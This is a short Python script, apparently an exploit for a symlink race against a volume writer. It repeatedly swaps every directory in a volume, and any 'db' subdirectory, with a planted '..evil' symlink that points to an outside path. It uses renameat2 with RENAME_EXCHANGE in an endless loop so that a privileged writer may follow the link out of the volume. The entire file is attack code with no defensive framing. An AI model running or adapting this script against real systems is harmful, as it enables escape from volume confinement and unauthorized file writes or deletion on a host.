"""Swaps every hidden directory of a volume with a link that leads outside, and back, as fast as it can."""
import ctypes
import os
import sys

volume, outside = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
link = os.path.join(volume, "..evil").encode()


def exchange(one, other):
    return libc.renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) == 0


def places():
    for name in os.listdir(volume):
        path = os.path.join(volume, name)
        if name in ("..evil", "..data") or os.path.islink(path):
            continue
        yield path
        inner = os.path.join(path, "db")
        if os.path.isdir(inner):
            yield inner


print("racing", flush=True)
while True:
    try:
        if not os.path.lexists(link):
            os.symlink(outside, link)
        for path in places():
            if exchange(link, path.encode()):
                exchange(link, path.encode())
    except OSError:
        pass  # the writer has cleaned up: another round
